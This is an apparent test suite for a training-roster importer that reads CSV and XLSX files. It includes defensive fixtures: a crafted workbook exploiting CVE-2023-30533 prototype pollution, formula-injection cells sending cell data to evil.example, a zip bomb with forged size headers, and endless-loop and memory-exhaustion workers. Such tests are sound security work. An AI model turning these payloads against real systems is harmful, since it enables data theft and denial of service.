import * as XLSX from 'xlsx';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import {
  importProblem,
  previewRoster,
  readRosterFile,
  rosterKind,
  rosterWorkerPath,
} from '../../main/records/roster';
import type { ReadOptions, RosterKind } from '../../main/records/roster';
import { Records } from '../../main/records/db';
import { ROSTER_LIMITS, XLSX_MIME } from '../../shared/roster';
import type { RosterMapping } from '../../shared/roster';

async function preview(
  file: Buffer | string,
  kind: RosterKind = 'csv',
  mapping: RosterMapping = {},
  opts: ReadOptions = {},
) {
  const read = await readRosterFile(
    typeof file === 'string' ? Buffer.from(file) : file,
    kind,
    opts,
  );
  if (!read.ok) throw new Error(read.message);
  return previewRoster(read, mapping);
}

function xlsx(rows: unknown[][], edit?: (ws: XLSX.WorkSheet) => void): Buffer {
  const ws = XLSX.utils.aoa_to_sheet(rows);
  edit?.(ws);
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, ws, 'Roster');
  return XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
}

/**
 * A workbook built the way CVE-2023-30533 is exploited against SheetJS 0.18.5: a cell comment whose
 * `ref` is `__proto__` (reading it assigns to Object.prototype), plus `__proto__` and
 * `constructor.prototype` header cells. The zip is edited with SheetJS's own zip container (CFB),
 * which never parses the sheet, so building it here pollutes nothing.
 */
function craftedXlsx(): Buffer {
  const buf = xlsx(
    [
      ['Name', 'Officer ID', '__proto__', 'constructor.prototype'],
      ['Ana Ortiz', '00417', '{"polluted":true}', 'x'],
    ],
    (ws) => {
      ws.A1.c = [{ a: 'mallory', t: 'hello' }];
    },
  );
  const cfb = XLSX.CFB.read(buf, { type: 'buffer' });
  const i = cfb.FullPaths.findIndex((p: string) => /comments\d*\.xml$/.test(p));
  expect(i).toBeGreaterThan(-1);
  const entry = cfb.FileIndex[i];
  entry.content = Buffer.from(
    Buffer.from(entry.content as Uint8Array)
      .toString('utf8')
      .replace('ref="A1"', 'ref="__proto__"'),
  );
  return XLSX.CFB.write(cfb, { fileType: 'zip', type: 'buffer' }) as Buffer;
}

const protoKeys = () => Reflect.ownKeys(Object.prototype).map(String).sort();
/** A worker from a data: URL, for the tests that need a misbehaving reader. */
const workerOf = (code: string) => new URL(`data:text/javascript,${encodeURIComponent(code)}`);

describe('roster columns', () => {
  it('finds the header row and the columns by their names', async () => {
    const p = await preview(
      'Name,Officer ID,Agency,Email\r\nAna Ortiz,00417,Austin PD,ana@example.org\r\nBen Lee,B-22,Travis SO,\r\n',
    );
    expect(p.columns).toEqual(['Name', 'Officer ID', 'Agency', 'Email']);
    expect(p.mapping).toEqual({ name: 0, officerId: 1, agency: 2, email: 3 });
    expect(p.errors).toEqual([]);
    expect(p.rows).toEqual([
      {
        line: 2,
        name: 'Ana Ortiz',
        officerId: '00417',
        agency: 'Austin PD',
        email: 'ana@example.org',
        firstName: '',
        lastName: '',
      },
      {
        line: 3,
        name: 'Ben Lee',
        officerId: 'B-22',
        agency: 'Travis SO',
        email: '',
        firstName: '',
        lastName: '',
      },
    ]);
  });

  it('knows first + last name, state IDs (TCOLE PID, POST ID), badge, department; skips title lines above the header', async () => {
    const p = await preview(
      'Human trafficking in-service,,,\n\nLast Name,First Name,TCOLE PID,Department\nOrtiz,Ana,0012345,Austin PD\n',
    );
    expect(p.headerLine).toBe(3);
    expect(p.mapping).toEqual({ lastName: 0, firstName: 1, officerId: 2, agency: 3 });
    // The roster's own last and first names are kept for the certification roster.
    expect(p.rows).toEqual([
      {
        line: 4,
        name: 'Ana Ortiz',
        officerId: '0012345',
        agency: 'Austin PD',
        email: '',
        firstName: 'Ana',
        lastName: 'Ortiz',
      },
    ]);
    expect((await preview('Student;POST ID;Badge #\nAna;1908-3538;77\n')).mapping).toEqual({
      name: 0,
      officerId: 1,
    });
    expect((await preview('Name\tBadge No.\tAgency\nAna\t77\tX\n')).rows[0]).toMatchObject({
      officerId: '77',
      agency: 'X',
    });
    expect((await preview('Trainee,PID\nAna,1\n')).mapping).toEqual({ name: 0, officerId: 1 });
  });

  it('an explicit mapping overrides the detected one; null unmaps a column', async () => {
    const csv = 'Who,Number,Where,Badge\nAna,00417,Austin PD,9\n';
    const auto = await preview(csv);
    expect(auto.mapping).toEqual({ officerId: 3 });
    expect(auto.errors.map((e) => e.message).join()).toMatch(/no name column/);
    const p = await preview(csv, 'csv', { name: 0, officerId: 1, agency: 2 });
    expect(p.errors).toEqual([]);
    expect(p.rows).toEqual([
      {
        line: 2,
        name: 'Ana',
        officerId: '00417',
        agency: 'Austin PD',
        email: '',
        firstName: '',
        lastName: '',
      },
    ]);
    expect(
      (await preview('Name,Officer ID,Agency\nAna,1,X\n', 'csv', { agency: null })).rows[0].agency,
    ).toBe('');
    const bad = await preview(csv, 'csv', { name: 0, officerId: 12 });
    expect(bad.errors[0].message).toMatch(/Officer ID: the file has no column M/);
    expect(bad.rows).toEqual([]);
  });

  it('lists row errors with their lines: missing or duplicate officer ID, name too long, control characters, bad email', async () => {
    const long = 'x'.repeat(81);
    const csv = [
      'Name,Officer ID,Agency,Email',
      'Ana Ortiz,00417,Austin PD,',
      'No Id,,Austin PD,',
      'Dup,  00417 ,Austin PD,',
      `${long},9,X,`,
      '"Tab\tName",10,X,',
      '"Two\nLines",11,X,',
      ',12,X,',
      'Eve,13,X,not-an-email',
      'Bidi\u202eevil,14,X,',
      ',,,',
      'Fine,15,X,',
    ].join('\n');
    const p = await preview(csv);
    expect(p.rows.map((r) => [r.line, r.name])).toEqual([
      [2, 'Ana Ortiz'],
      [13, 'Fine'],
    ]);
    expect(p.errors).toEqual([
      { line: 3, message: 'no officer ID' },
      { line: 4, message: 'officer ID 00417 is already on line 2' },
      { line: 5, message: 'name is longer than 80 characters' },
      { line: 6, message: expect.stringMatching(/^name contains a control character/) },
      { line: 7, message: expect.stringMatching(/^name contains a control character/) },
      { line: 9, message: 'no name' },
      { line: 10, message: 'email “not-an-email” is not an email address' },
      { line: 11, message: expect.stringMatching(/^name contains a control character/) },
    ]);
    expect(p.total).toBe(10);
    expect(importProblem(p, false)).toBe(
      '8 rows have errors; fix the file, or import the 2 valid rows only',
    );
    expect(importProblem(p, true)).toBeNull();
  });

  it('officer IDs stay text with their leading zeros, in CSV and in XLSX', async () => {
    expect((await preview('Name,Officer ID\nAna,00417\n')).rows[0].officerId).toBe('00417');
    const book = xlsx(
      [
        ['Name', 'Officer ID'],
        ['Ana', '00417'],
        ['Ben', 42],
      ],
      (ws) => {
        // A number shown with leading zeros, as records staff format ID columns.
        ws.B3.z = '00000';
        delete ws.B3.w;
      },
    );
    const p = await preview(book, 'xlsx');
    expect(p.errors).toEqual([]);
    expect(p.rows.map((r) => r.officerId)).toEqual(['00417', '00042']);
  });

  it('a formula is just text: =HYPERLINK(…) in a CSV cell stays that text', async () => {
    const p = await preview(
      'Name,Officer ID,Agency\n"=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")",=1+1,@SUM(A1)\n',
    );
    expect(p.errors).toEqual([]);
    expect(p.rows[0]).toMatchObject({
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Ana")',
      officerId: '=1+1',
      agency: '@SUM(A1)',
    });
    const book = xlsx([
      ['Name', 'Officer ID'],
      ['=HYPERLINK("http://evil.example","Ana")', '0042'],
    ]);
    expect((await preview(book, 'xlsx')).rows[0]).toMatchObject({
      name: '=HYPERLINK("http://evil.example","Ana")',
      officerId: '0042',
    });
  });

  it('reads UTF-8 with a BOM, Windows-1252, and Excel’s sep= line', async () => {
    const bom = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from('Name,Officer ID\nJosé Núñez,1\n'),
    ]);
    expect((await preview(bom)).rows[0].name).toBe('José Núñez');
    const ansi = Buffer.from('Name;Officer ID\nJos\xe9;1\n', 'latin1');
    expect((await preview(ansi)).rows[0].name).toBe('José');
    expect((await preview('sep=;\nName;Officer ID\nAna;1\n')).rows[0]).toMatchObject({
      line: 3,
      name: 'Ana',
      officerId: '1',
    });
  });

  it('a `__proto__` header is just a column name: rows are arrays, never objects keyed by headers', async () => {
    const before = protoKeys();
    const p = await preview('__proto__,Name,constructor,Officer ID\n{"a":1},Ana,prototype,7\n');
    expect(p.columns).toEqual(['__proto__', 'Name', 'constructor', 'Officer ID']);
    expect(p.rows).toEqual([
      { line: 2, name: 'Ana', officerId: '7', agency: '', email: '', firstName: '', lastName: '' },
    ]);
    expect(protoKeys()).toEqual(before);
  });

  it('the content type and first bytes decide how a file is read', () => {
    expect(rosterKind(Buffer.from('a,b'), 'text/csv; charset=utf-8')).toEqual({
      ok: true,
      kind: 'csv',
    });
    expect(rosterKind(xlsx([['a']]), XLSX_MIME)).toEqual({ ok: true, kind: 'xlsx' });
    expect(rosterKind(Buffer.from('a,b'), XLSX_MIME)).toMatchObject({
      ok: false,
      message: expect.stringMatching(/not an XLSX workbook/),
    });
    expect(
      rosterKind(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0, 0]), 'application/vnd.ms-excel'),
    ).toMatchObject({ ok: false, message: expect.stringMatching(/\.xls/) });
    expect(rosterKind(Buffer.from('a'), 'application/json')).toMatchObject({
      ok: false,
      message: expect.stringMatching(/send a \.csv or \.xlsx file/),
    });
  });

  it('the worker script is found from the source tree', () => {
    expect(rosterWorkerPath()).toMatch(/main[\\/]records[\\/]roster-worker\.mjs$/);
  });
});

describe('roster import refuses bad files with a clear message, and nothing is imported', () => {
  it('wrong columns', async () => {
    const p = await preview('Foo,Bar,Baz\n1,2,3\n4,5,6\n');
    expect(p.rows).toEqual([]);
    expect(p.errors).toEqual([
      {
        line: 1,
        message:
          'no officer ID column in the header row (“Foo”, “Bar”, “Baz”): name a column “Officer ID”, “Badge”, “PID” or “POST ID”, or choose it under Columns',
      },
      {
        line: 1,
        message:
          'no name column in the header row (“Foo”, “Bar”, “Baz”): name a column “Name”, or “First name” and “Last name”, or choose them under Columns',
      },
    ]);
    expect(importProblem(p, true)).toMatch(/^nothing to import: no officer ID column/);
  });

  it('a 10 MB file is refused by its size, before any parser starts', async () => {
    const big = Buffer.alloc(10 * 1024 * 1024, 'a,b\n');
    // Were a worker started, this one would answer with an empty roster instead.
    const r = await readRosterFile(big, 'csv', {
      workerSource: workerOf(
        `import { parentPort } from 'node:worker_threads'; parentPort.postMessage({ ok: true, rows: [], lines: [], columns: 0, moreRows: false });`,
      ),
    });
    expect(r).toEqual({
      ok: false,
      message: 'the file is 10 MB; a roster file can be at most 5 MB',
    });
  });

  it('a crafted XLSX that pollutes Object.prototype (CVE-2023-30533) is refused, and this process is untouched', async () => {
    const before = protoKeys();
    const r = await readRosterFile(craftedXlsx(), 'xlsx');
    expect(r.ok).toBe(false);
    expect(!r.ok && r.message).toMatch(
      /^the file is damaged or crafted: reading it tried to change the program's built-in objects \(Object\.prototype\.c\)/,
    );
    expect(protoKeys()).toEqual(before);
    expect(({} as Record<string, unknown>).c).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  it('a parse that never finishes is stopped by the time limit', async () => {
    const t0 = Date.now();
    const r = await readRosterFile(Buffer.from('Name,Officer ID\nAna,1\n'), 'csv', {
      workerSource: workerOf('for (;;) {}'),
      timeoutMs: 1000,
    });
    expect(r).toEqual({
      ok: false,
      message:
        'reading the file took longer than 1 s and was stopped; the file may be damaged or crafted — open it in a spreadsheet program, save it again as .xlsx or .csv, and import that',
    });
    expect(Date.now() - t0).toBeLessThan(4000);
  });

  it('the default time limit is 5 s', () => {
    expect(ROSTER_LIMITS.timeoutMs).toBe(5000);
  });

  it('a reader that runs out of memory is stopped by the memory limit', async () => {
    const r = await readRosterFile(Buffer.from('x'), 'csv', {
      workerSource: workerOf('const a = []; for (;;) a.push(new Array(1e5).fill(Math.random()));'),
      memoryMb: 32,
      timeoutMs: 20_000,
    });
    expect(r).toMatchObject({
      ok: false,
      message: expect.stringMatching(
        /^reading the file needed more than 32 MB of memory and was stopped/,
      ),
    });
  });

  it('an XLSX "zip bomb" is refused before it is unpacked, also when it lies about its sizes', async () => {
    // 200 MB of zeros in a 200 KB zip: the directory says so, and nothing is inflated.
    const bomb = Buffer.from(
      zipSync(
        {
          '[Content_Types].xml': strToU8('<Types/>'),
          'xl/worksheets/sheet1.xml': new Uint8Array(200 * 1024 * 1024),
        },
        { level: 9 },
      ),
    );
    expect(bomb.length).toBeLessThan(ROSTER_LIMITS.fileBytes);
    expect(await readRosterFile(bomb, 'xlsx', { timeoutMs: 120_000 })).toEqual({
      ok: false,
      message: expect.stringMatching(
        /^the workbook unpacks to more than 32 MB, which no roster does/,
      ),
    });
    // The same file claiming 1 KB in both its directory and its local header: stopped while inflating.
    const liar = Buffer.from(bomb);
    for (const [sig, at] of [
      [0x02014b50, 24],
      [0x04034b50, 22],
    ]) {
      for (let i = liar.length - 4; i >= 0; i--)
        if (
          liar.readUInt32LE(i) === sig &&
          liar.toString(
            'latin1',
            i + (sig === 0x02014b50 ? 46 : 30),
            i + (sig === 0x02014b50 ? 46 : 30) + 24,
          ) === 'xl/worksheets/sheet1.xml'
        ) {
          liar.writeUInt32LE(1024, i + at);
          break;
        }
    }
    // (The time limit is set out of the way: this is about memory, and a busy machine is slow.)
    expect(await readRosterFile(liar, 'xlsx', { timeoutMs: 120_000 })).toEqual({
      ok: false,
      message: expect.stringMatching(/^the workbook unpacks to more than 32 MB/),
    });
  });

  it('whatever the reader sends back is validated: objects where strings belong are refused', async () => {
    const r = await readRosterFile(Buffer.from('x'), 'csv', {
      workerSource: workerOf(
        `import { parentPort } from 'node:worker_threads'; parentPort.postMessage({ ok: true, rows: [[{ toString: 1 }]], lines: [1], columns: 1, moreRows: false });`,
      ),
    });
    expect(r).toEqual({
      ok: false,
      message: 'the file reader sent back something that is not a roster; nothing was read',
    });
  });

  it('too many columns or rows, an unterminated quote, a binary file', async () => {
    const wide = `${Array.from({ length: 31 }, (_, i) => `c${i}`).join(',')}\n`;
    expect(await readRosterFile(Buffer.from(wide), 'csv')).toEqual({
      ok: false,
      message:
        'the sheet has 31 columns; a roster can have at most 30 — delete the columns you do not need',
    });
    const tall = `Name,Officer ID\n${Array.from({ length: 5001 }, (_, i) => `N${i},${i}`).join('\n')}\n`;
    const r = await readRosterFile(Buffer.from(tall), 'csv');
    expect(r.ok ? previewRoster(r).errors : r.message).toEqual([
      {
        line: 5002,
        message:
          'the file has more than 5,000 trainees; a roster can have at most 5,000 — split it',
      },
    ]);
    expect(await readRosterFile(Buffer.from('Name,Officer ID\n"Ana,1\n'), 'csv')).toEqual({
      ok: false,
      message: 'a quoted field that starts on line 2 never ends (a missing closing ")',
    });
    expect(await readRosterFile(Buffer.from([0x4e, 0, 0x41, 0]), 'csv')).toMatchObject({
      ok: false,
      message: expect.stringMatching(/not text/),
    });
    expect(await readRosterFile(Buffer.from('PK\x03\x04garbage'), 'xlsx')).toMatchObject({
      ok: false,
    });
  });
});

describe('roster records', () => {
  const session = (r: Records, id: string) =>
    r.apply([
      {
        op: 'session',
        id,
        roomCode: '123456',
        course: 'c',
        courseTitle: 'C',
        courseNumber: null,
        creditHours: null,
        passMark: null,
        file: 'd.md',
        title: 'D',
        at: 1,
      },
    ]);
  const entry = (officerId: string, name = `N${officerId}`) => ({
    officerId,
    name,
    agency: 'PD',
    email: '',
    firstName: '',
    lastName: '',
  });

  it('a roster imported with no session running is adopted by the next session; a new import replaces it, audit-logged', () => {
    const r = new Records(':memory:');
    r.apply([
      {
        op: 'roster',
        sessionId: null,
        name: 'Class A',
        entries: [entry('00417'), entry('B1')],
        reason: 'Roster file imported',
        actor: 'instructor',
        at: 10,
      },
    ]);
    expect(r.rosterSummary(null)).toEqual({ name: 'Class A', entries: 2, importedAt: 10 });
    session(r, 's1');
    r.apply([
      { op: 'adoptRoster', sessionId: 's1', entries: [entry('00417'), entry('B1')], at: 15 },
    ]);
    expect(r.rosterSummary(null)).toBeNull();
    expect(r.rosterEntries('s1').map((e) => e.officerId)).toEqual(['00417', 'B1']);
    r.apply([
      {
        op: 'roster',
        sessionId: 's1',
        name: 'Class A v2',
        entries: [entry('C3')],
        reason: 'Roster file imported',
        actor: 'instructor',
        at: 20,
      },
    ]);
    expect(r.rosterEntries('s1')).toEqual([entry('C3')]);
    const audit = r.db
      .prepare(
        `SELECT session_id, actor, action, entity, entity_id, before_json, after_json, reason FROM audit_log ORDER BY seq`,
      )
      .all();
    expect(audit).toEqual([
      {
        session_id: null,
        actor: 'instructor',
        action: 'importRoster',
        entity: 'roster',
        entity_id: 'Class A',
        before_json: null,
        after_json: '{"name":"Class A","entries":2}',
        reason: 'Roster file imported',
      },
      {
        session_id: 's1',
        actor: 'instructor',
        action: 'adoptRoster',
        entity: 'roster',
        entity_id: 'Class A',
        before_json: null,
        after_json: '{"name":"Class A","entries":2}',
        reason:
          'Roster imported 1970-01-01T00:00:00.010Z, before the session; adopted when it started',
      },
      {
        session_id: 's1',
        actor: 'instructor',
        action: 'importRoster',
        entity: 'roster',
        entity_id: 'Class A v2',
        before_json: '{"name":"Class A","entries":2,"importedAt":10}',
        after_json: '{"name":"Class A v2","entries":1}',
        reason: 'Roster file imported',
      },
    ]);
    // One officer ID once per roster (case-insensitive), leading zeros significant.
    expect(() =>
      r.apply([
        {
          op: 'roster',
          sessionId: 's1',
          name: 'x',
          entries: [entry('ab1'), entry('AB1')],
          reason: 'r',
          actor: 'instructor',
          at: 30,
        },
      ]),
    ).toThrow(/UNIQUE/);
    expect(r.rosterEntries('s1')).toEqual([entry('C3')]);
    // Last and first name, when the file had them apart, are kept.
    session(r, 's2');
    r.apply([
      {
        op: 'roster',
        sessionId: 's2',
        name: 'Named',
        entries: [{ ...entry('D4'), firstName: 'Dev', lastName: 'Patel' }],
        reason: 'r',
        actor: 'instructor',
        at: 31,
      },
    ]);
    expect(r.rosterEntries('s2')).toEqual([
      { ...entry('D4'), firstName: 'Dev', lastName: 'Patel' },
    ]);
    r.close();
  });

  it('a correction updates the trainee and writes the audit row; a moved phone changes owner', () => {
    const r = new Records(':memory:');
    session(r, 's1');
    r.apply([
      {
        op: 'trainee',
        id: 't1',
        sessionId: 's1',
        name: 'Ana Ortz',
        officerId: '417',
        agency: 'PD',
        at: 2,
      },
      {
        op: 'trainee',
        id: 't2',
        sessionId: 's1',
        name: 'Ben',
        officerId: 'B1',
        agency: 'PD',
        at: 2,
      },
      { op: 'device', traineeId: 't1', tokenHash: 'h1', at: 2 },
    ]);
    const before = { name: 'Ana Ortz', officerId: '417', agency: 'PD' };
    const after = { name: 'Ana Ortiz', officerId: '00417', agency: 'PD' };
    r.apply([
      {
        op: 'correctTrainee',
        sessionId: 's1',
        traineeId: 't1',
        before,
        after,
        reason: 'typo; ID checked against the sign-in sheet',
        actor: 'instructor',
        at: 5,
      },
    ]);
    expect(
      r.db.prepare(`SELECT name, officer_id, agency FROM trainees WHERE id = 't1'`).get(),
    ).toEqual({ name: 'Ana Ortiz', officer_id: '00417', agency: 'PD' });
    r.apply([
      {
        op: 'moveDevice',
        sessionId: 's1',
        fromTraineeId: 't1',
        toTraineeId: 't2',
        before: { phones: 1, trainee: { id: 't1', ...after } },
        after: { phones: 1, trainee: { id: 't2', name: 'Ben', officerId: 'B1', agency: 'PD' } },
        reason: 'Ben used Ana’s phone',
        actor: 'instructor',
        at: 6,
      },
    ]);
    expect(r.db.prepare(`SELECT trainee_id, bound_at FROM devices`).all()).toEqual([
      { trainee_id: 't2', bound_at: 6 },
    ]);
    const audit = r.db
      .prepare(
        `SELECT at, actor, action, entity, entity_id, before_json, after_json, reason FROM audit_log ORDER BY seq`,
      )
      .all() as Record<string, unknown>[];
    expect(audit[0]).toEqual({
      at: 5,
      actor: 'instructor',
      action: 'correctTrainee',
      entity: 'trainee',
      entity_id: 't1',
      before_json: JSON.stringify(before),
      after_json: JSON.stringify(after),
      reason: 'typo; ID checked against the sign-in sheet',
    });
    expect(audit[1]).toMatchObject({
      action: 'moveDevice',
      entity: 'device',
      entity_id: 't1',
      reason: 'Ben used Ana’s phone',
    });
    expect(JSON.parse(audit[1].after_json as string)).toMatchObject({ trainee: { id: 't2' } });
    r.close();
  });
});
